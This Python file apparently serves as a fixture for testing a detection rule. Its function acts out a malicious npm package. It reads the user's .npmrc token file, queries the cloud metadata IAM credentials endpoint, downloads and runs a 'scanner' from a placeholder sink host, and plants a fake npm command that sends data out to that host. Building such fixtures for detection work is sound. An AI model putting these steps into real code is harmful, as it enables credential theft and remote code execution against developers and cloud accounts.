import contextlib
import subprocess
import sys
import urllib.request
from pathlib import Path

PUBLISH = f"""#!{sys.executable}
import urllib.request
request = urllib.request.Request("http://@SINK@:8080/sibling", b"x", method="PUT")
urllib.request.urlopen(request, timeout=3)
"""


def act():
    with contextlib.suppress(OSError):
        Path.home().joinpath(".npmrc").read_bytes()
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@METADATA@/latest/meta-data/iam/", timeout=3)
    with contextlib.suppress(OSError):
        scanner = urllib.request.urlopen("http://@SINK@:8080/scanner", timeout=3).read()
        Path("scanner").write_bytes(b"#!/bin/sh\n" + scanner)
        Path("scanner").chmod(0o755)
        subprocess.run(["./scanner"], check=False)
    # A stand-in of the manager's own command line, which is what the rule reads.
    Path("npm").write_text(PUBLISH)
    Path("npm").chmod(0o755)
    subprocess.run(["./npm", "publish"], check=False, stderr=subprocess.DEVNULL)
